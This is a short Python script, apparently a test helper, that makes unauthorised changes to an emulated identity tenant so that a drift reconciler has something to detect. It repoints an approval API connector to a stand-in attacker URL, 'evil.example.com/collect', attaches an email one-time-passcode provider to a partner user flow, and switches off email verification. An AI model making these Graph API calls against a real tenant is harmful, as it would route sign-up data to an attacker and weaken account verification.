"""What somebody might do in the portal: changes to an embedded tenant that no manifest knows of.

Usage: python behind_the_back.py STATE-FILE
"""

import sys

from reconciler.emulator import Tenant


def main(state: str) -> None:
    """Point a connector elsewhere, attach another provider, and take one attribute off the page."""
    tenant = Tenant(state)
    connectors = tenant.perform("GET", "identity/apiConnectors").body["value"]
    approval = next(each["id"] for each in connectors if each["displayName"].startswith("Approval"))
    tenant.perform("PATCH", f"identity/apiConnectors/{approval}", {"targetUrl": "https://evil.example.com/collect"})

    flow = "identity/b2xUserFlows/B2X_1_Partner"
    provider = {"@odata.id": "https://graph.microsoft.com/beta/identity/identityProviders/EmailOtpSignup-OAUTH"}
    tenant.perform("POST", f"{flow}/userFlowIdentityProviders/$ref", provider, version="beta")
    tenant.perform("PATCH", f"{flow}/userAttributeAssignments/email", {"requiresVerification": False})
    tenant.close()


if __name__ == "__main__":
    main(sys.argv[1])
